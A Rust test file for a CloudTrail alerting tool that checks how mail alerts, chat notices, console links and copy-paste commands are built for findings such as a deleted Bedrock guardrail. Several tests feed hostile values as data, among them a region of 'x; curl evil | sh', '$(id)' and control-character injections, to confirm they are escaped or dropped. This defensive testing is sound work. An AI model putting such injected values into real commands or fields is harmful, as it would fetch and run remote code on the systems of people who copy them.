//! What people read: mails, chat notices, subjects, links and commands.

use detection::{
    finding::{Alert, ChatNotice, Finding},
    rules::{Lists, Origin, RuleFile, RuleSet},
};
use serde_json::{Value, json};

use super::{SCHEMA, found, only};
use crate::samples::{audit, audit_with, delete_guardrail, document, key, ordinary};

/// With the built-in rules alone, what a rule of one's own found would not be found again.
#[test]
fn an_alert_names_the_rules_and_the_lists_that_its_command_needs() {
    let told = |rule: &str, lists: &str| {
        let rule = format!(
            "title: T\nid: 5cf5d7ea-ef4c-4a6e-8d4b-0c1a7f0d1b11\nlogsource: {{product: aws, service: cloudtrail}}\ndetection:\n  \
             selection:\n    eventName: ListBuckets\n    {rule}\n  condition: selection\nlevel: high\n"
        );
        let outside =
            |path: &str, text: &str| RuleFile { path: path.into(), text: text.into(), origin: Origin::Outside };
        let loaded = RuleSet::load([outside("mine.yml", &rule), outside("lists.yml", lists)]);
        assert_eq!(loaded.refused, []);
        let audited = audit_with(&loaded.rule_set, &document(&[ordinary(1)]), "k");
        let body = Alert::of(&[only(&audited)], 0).unwrap().body;
        body.lines().find(|line| line.starts_with("Reproduce")).unwrap().split_once("| ").unwrap().1.to_owned()
    };
    let mine = "awsRegion|expand: '%mine%'";
    assert_eq!(
        told("userAgent|exists: true", "mine: [eu-central-1]"),
        "bedrock-audit scan --rules FOLDER - (FOLDER: your rules)"
    );
    assert_eq!(
        told(mine, "Mine: [eu-central-1]"),
        "bedrock-audit scan --rules FOLDER --lists FILE - (FOLDER: your rules, FILE: your lists)"
    );
    let mut lists = Lists::builtin();
    lists.put("regions", vec!["us-east-1".to_owned()]);
    let rules = RuleSet::load_with([], lists).rule_set;
    let elsewhere = json!({"eventName": "InvokeModel", "awsRegion": "eu-central-1", "requestParameters": {"modelId": "amazon.nova-lite-v1:0"}});
    let audited = audit_with(&rules, &document(&[delete_guardrail(1, &elsewhere)]), "k");
    let body = Alert::of(&[only(&audited)], 0).unwrap().body;
    assert!(body.contains("| bedrock-audit scan --lists FILE - (FILE: your lists)\n"), "{body}");
}

#[test]
fn an_alert_answers_what_a_person_asks() {
    let record = delete_guardrail(1, &json!({"requestParameters": {"clientRequestToken": "a-token", "name": "***"}}));
    let audited = found(&[record]);
    let Alert { subject, body } = Alert::of(&[only(&audited)], 0).unwrap();
    assert_eq!(body.matches("gr4example7k2").count(), 1, "what the call was about is told once: {body}");
    assert_eq!(subject, "[bedrock-audit] High: Bedrock guardrail deleted (success) in 111122223333");
    for expected in [
        "DeleteGuardrail at bedrock.amazonaws.com: it succeeded",
        "guardrailIdentifier: gr4example7k2",
        "Asked for       clientRequestToken: a-token\nWho",
        "assumed role DataScience (session mallory), temporary credentials, not from the console, without MFA",
        "May be harmless A planned clean-up",
        "Read more       https://docs.aws.amazon.com/bedrock/latest/APIReference/API_DeleteGuardrail.html",
        "https://eu-central-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-central-1#/events/9dfb369b-ab13-4fae-a276-000000000001",
        "with the credential ASIAEXAMPLEMALLORY01",
        // Only a user's key can be switched off.
        "--access-key-id KEY --status Inactive",
        "Why it matters  Somebody deleted an Amazon Bedrock guardrail",
        "--region eu-central-1 --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=ASIAEXAMPLEMALLORY01",
        "203.0.113.24",
        "111122223333, eu-central-1",
        "2026-11-22T09:01:00Z",
        "high: everything that the rule asks for is visible",
        "What to do      1. ",
        "s3://bedrock-audit-example-logs/AWSLogs/111122223333/CloudTrail/",
        "eventID 9dfb369b-ab13-4fae-a276-000000000001",
        "aws s3 cp 's3://bedrock-audit-example-logs/AWSLogs/",
        "| bedrock-audit scan -\n",
    ] {
        assert!(body.contains(expected), "{expected} is missing in\n{body}");
    }
}

/// Also of a call that the rule's own references are not about, and once where they are.
#[test]
fn a_finding_links_to_the_documentation_of_the_operation() {
    let root = json!({"type": "Root", "principalId": "111122223333", "arn": "arn:aws:iam::111122223333:root"});
    let change = json!({"eventName": "ListFoundationModels", "requestParameters": null, "userIdentity": root});
    let pages = |change: &Value| {
        let audited = found(&[delete_guardrail(1, change)]);
        let finding = only(&audited);
        let (mail, ocsf) = (Alert::of(&[finding], 0).unwrap().body, finding.ocsf());
        let page = ocsf["unmapped"]["documentation"].as_str().unwrap().to_owned();
        assert_eq!(ocsf["remediation"]["references"][0], json!(page));
        assert!(mail.contains(&format!("Read more       {page}\n")) && mail.matches(&page).count() == 1, "{mail}");
        assert_eq!(SCHEMA.violations(&ocsf), Vec::<String>::new());
        page
    };
    let reference = "https://docs.aws.amazon.com/bedrock/latest/APIReference/";
    assert_eq!(pages(&change), format!("{reference}API_ListFoundationModels.html"));
    assert_eq!(pages(&json!({})), format!("{reference}API_DeleteGuardrail.html"));
    let unknown = found(&[delete_guardrail(1, &json!({"eventName": "DeleteEverything"}))]);
    assert_eq!(only(&unknown).ocsf()["unmapped"]["documentation"], Value::Null);
}

#[test]
fn a_link_leads_to_the_console_of_the_partition_and_nowhere_else() {
    let link = |change: Value| only(&found(&[delete_guardrail(1, &change)])).console_link();
    for (region, start) in [
        ("eu-central-1", "https://eu-central-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-central-1#/events/"),
        ("us-gov-west-1", "https://us-gov-west-1.console.amazonaws-us-gov.com/cloudtrailv2/"),
        ("cn-north-1", "https://cn-north-1.console.amazonaws.cn/cloudtrailv2/"),
    ] {
        let link = link(json!({ "awsRegion": region })).unwrap();
        assert!(link.starts_with(start) && link.ends_with("-000000000001"), "{link}");
    }
    // Event history has no others: the link would lead to an empty page.
    assert_eq!(link(json!({"eventCategory": "Data", "managementEvent": false})), None);
    assert_eq!(link(json!({"managementEvent": false, "eventCategory": null})), None);
    for hostile in ["evil.example/", "x\ny", "", "eu-central-1@evil"] {
        assert_eq!(link(json!({ "awsRegion": hostile })), None, "{hostile:?}");
        assert_eq!(link(json!({ "eventID": hostile })), None, "{hostile:?}");
    }
}

/// What is filled into a command must be nothing that a shell would act on.
#[test]
fn commands_are_filled_in_only_with_what_is_harmless() {
    let hostile = json!({"awsRegion": "x; curl evil | sh", "userIdentity": {"accessKeyId": "$(id)"}});
    let audited = found(&[delete_guardrail(1, &hostile)]);
    let body = Alert::of(&[only(&audited)], 0).unwrap().body;
    assert!(body.contains("--region REGION --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=KEY"), "{body}");
}

/// A rule says what happens when the call succeeds. Whoever reads at night that something is gone must not believe it of a
/// call that was refused.
#[test]
fn an_alert_of_an_attempt_does_not_say_that_it_was_done() {
    let why = |change: Value| {
        let audited = found(&[delete_guardrail(1, &change)]);
        let body = Alert::of(&[only(&audited)], 0).unwrap().body;
        body.lines().find(|line| line.starts_with("Why it matters")).unwrap().to_owned()
    };
    let start = "Why it matters  ";
    assert!(why(json!({})).starts_with(&format!("{start}Somebody deleted an Amazon Bedrock guardrail")));
    let denied = why(json!({"errorCode": "AccessDenied"}));
    let refused = "It was tried and refused. Had it succeeded: Somebody deleted an Amazon Bedrock guardrail";
    assert!(denied.starts_with(&format!("{start}{refused}")), "{denied}");
    let failed = why(json!({"errorCode": "ConflictException"}));
    assert!(failed.starts_with(&format!("{start}It was tried and failed. Had it succeeded: ")), "{failed}");
    // A rule about refusals says what they mean.
    let of_model =
        json!({"eventName": "InvokeModel", "errorCode": "AccessDenied", "requestParameters": {"modelId": "x.y"}});
    assert!(why(of_model).starts_with(&format!("{start}Somebody")));
}

/// A title that is too long is cut, and not what comes after it.
#[test]
fn a_subject_says_what_became_of_it_however_long_the_title_is() {
    let long = "Somebody did something to a guardrail that takes very many words to say in one title";
    let rule = format!(
        "title: {long}\nlevel: high\nlogsource: {{product: aws, service: cloudtrail}}\ndetection:\n  selection:\n    \
         eventName: DeleteGuardrail\n  condition: selection\n"
    );
    let file = RuleFile { path: "mine.yml".to_owned(), text: rule, origin: Origin::Outside };
    let rules = RuleSet::load_only([file]).rule_set;
    let audited =
        audit_with(&rules, &document(&[delete_guardrail(1, &json!({"errorCode": "AccessDenied"}))]), &key("x"));
    let subject = Alert::of(&[only(&audited)], 0).unwrap().subject;
    assert_eq!(subject, "[bedrock-audit] High: Somebody did something to a guardrail that... (denied) in 111122223333");
    assert!(subject.len() < 100);
}

#[test]
fn the_actor_in_words_says_that_an_api_key_was_used() {
    let words = |change: Value| {
        let audited = found(&[delete_guardrail(1, &change)]);
        audited.findings[0].matched().unwrap().actor.in_words()
    };
    let user = json!({"type": "IAMUser", "userName": "BedrockAPIKey-ex4m", "arn": "arn:aws:iam::111122223333:user/BedrockAPIKey-ex4m", "accessKeyId": null, "sessionContext": null});
    let change = json!({"userIdentity": user, "additionalEventData": {"callWithBearerToken": true}});
    assert_eq!(words(change), "IAM user BedrockAPIKey-ex4m, with an API key");
    assert!(!words(json!({"additionalEventData": {"callWithBearerToken": false}})).contains("API key"));
}

#[test]
fn many_findings_are_one_alert_and_the_worst_comes_first() {
    let records: Vec<Value> = (0..30)
        .map(|n| delete_guardrail(n, &json!({"requestParameters": {"guardrailIdentifier": format!("gr-{n}")}, "errorCode": if n == 17 { Value::Null } else { json!("AccessDenied") }})))
        .collect();
    let audited = found(&records);
    let findings: Vec<&Finding> = audited.findings.iter().collect();
    let alert = Alert::of(&findings, 0).unwrap();
    assert!(alert.subject.ends_with("in 111122223333 and 29 more") && alert.subject.len() < 100, "{}", alert.subject);
    assert!(alert.body.find("[HIGH]").unwrap() < alert.body.find("[MEDIUM]").unwrap());
    assert!(alert.body.contains("20 more findings are not told here"));
    assert_eq!((Alert::of(&[], 0), ChatNotice::of(&[], 0)), (None, None));
    assert_eq!(alert.body.matches("Finding         [").count(), 10, "what is not counted is told");
    // Logs come in any order, so does the worst of their findings.
    let upside_down: Vec<&Finding> = findings.into_iter().rev().collect();
    assert!(Alert::of(&upside_down, 0).unwrap().subject.starts_with("[bedrock-audit] High"));
}

#[test]
fn a_chat_notice_is_what_amazon_q_shows() {
    let hostile = json!({"requestParameters": {"guardrailIdentifier": "`<!channel> <https://x|y> @here *b*"}});
    let audited = found(&[delete_guardrail(1, &hostile)]);
    let notice: Value = serde_json::from_str(&ChatNotice::of(&[only(&audited)], 0).unwrap().json).unwrap();
    assert_eq!((&notice["version"], &notice["source"]), (&json!("1.0"), &json!("custom")));
    assert_eq!(notice["content"]["textType"], "client-markdown");
    assert!(notice["content"]["title"].as_str().unwrap().contains("Bedrock guardrail deleted (success)"));
    let description = notice["content"]["description"].as_str().unwrap();
    assert!(!description.contains('<') && !description.contains('@'), "{description}");
    let links: Vec<&str> = description.lines().filter(|line| line.starts_with("https://")).collect();
    assert_eq!(
        links,
        [
            "https://eu-central-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-central-1#/events/9dfb369b-ab13-4fae-a276-000000000001",
            "https://docs.aws.amazon.com/bedrock/latest/APIReference/API_DeleteGuardrail.html"
        ]
    );
    let hostile = json!({"recipientAccountId": "<!channel> @here"});
    let hostile = found(&[delete_guardrail(1, &hostile)]);
    let hostile: Value = serde_json::from_str(&ChatNotice::of(&[only(&hostile)], 0).unwrap().json).unwrap();
    assert!(!hostile["content"]["title"].as_str().unwrap().contains(['<', '@']), "{hostile}");
    assert_eq!(description.matches('`').count() % 2, 0, "{description}");
    assert_eq!(notice["metadata"]["threadId"], only(&audited).correlation_id.as_str());
}

/// A key is chosen by whoever writes into the bucket: it ends in mails, chats and a command that a person copies.
#[test]
fn a_hostile_key_forges_no_line_and_no_command() {
    let audited = audit(&document(&[delete_guardrail(1, &json!({}))]), "it's\n$(id)\u{1b}[2J\u{202e}x");
    let finding = only(&audited);
    let harmless = |c: char| c == '\n' || !(c.is_control() || c == '\u{202e}');
    let body = Alert::of(&[finding], 0).unwrap().body;
    assert!(body.chars().all(harmless) && !body.lines().any(|line| line.starts_with("$(id)")), "{body}");
    assert!(body.contains(r"aws s3 cp 's3://bedrock-audit-example-logs/it'\''s"), "{body}");
    let notice: Value = serde_json::from_str(&ChatNotice::of(&[finding], 0).unwrap().json).unwrap();
    let description = notice["content"]["description"].as_str().unwrap();
    assert!(description.chars().all(harmless) && description.trim_end().lines().count() == 5, "{description}");
}

#[test]
fn a_chat_notice_is_never_longer_than_is_shown() {
    let records: Vec<Value> = (0..30)
        .map(|n| {
            delete_guardrail(
                n,
                &json!({"requestParameters": {"guardrailIdentifier": format!("{n}{}", "ü".repeat(1_000))}}),
            )
        })
        .collect();
    let audited = audit(&document(&records), &key(&"k".repeat(900)));
    let findings: Vec<&Finding> = audited.findings.iter().collect();
    let notice: Value = serde_json::from_str(&ChatNotice::of(&findings, 0).unwrap().json).unwrap();
    let description = notice["content"]["description"].as_str().unwrap();
    assert!(
        description.len() <= 8_000 && description.ends_with("the rest is in the findings topic.\n"),
        "{description}"
    );
}
